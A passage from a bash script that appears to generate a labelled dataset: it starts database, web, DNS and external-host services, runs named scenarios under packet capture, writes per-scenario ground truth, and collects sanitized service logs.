	in_ns db mariadb --no-defaults -S "$TMP/my/mysqld.sock" -u root -e "SET GLOBAL slow_query_log = 0"
	sed "$sedmap" "$TMP/web/log/access.log" >"$OUT/logs/nginx-access.log"
	sed "$sedmap" "$TMP/my/log/mariadb-slow.log" >"$OUT/logs/mariadb-slow.log"
	sed "$sedmap" "$TMP/pglog/postgresql.log" >"$OUT/logs/postgresql.log"
	sed "$sedmap" "$TMP/dns/dnsmasq.log" >"$OUT/logs/dnsmasq.log"
	$PY "$HERE/helpers/logtruth.py" "$OUT"
}

# ---------------------------------------------------------------- main
log "generating customers (fixed seed)"
$PY "$HERE/gen-customers.py" "$DATA"
chmod -R a+rX "$DATA"
setup_net
start_postgres
start_mariadb
start_web
start_ext
start_dns
for s in $SCENARIOS; do
	fn=sc_${s//-/_}
	declare -F "$fn" >/dev/null || { echo "unknown scenario $s" >&2; exit 2; }
	log "scenario $s"
	capture_start "$s"
	$fn
	capture_stop "$s"
	make_truth "$s"
done
collect_logs
log "done: $(du -sh "$OUT" | cut -f1) in $OUT"
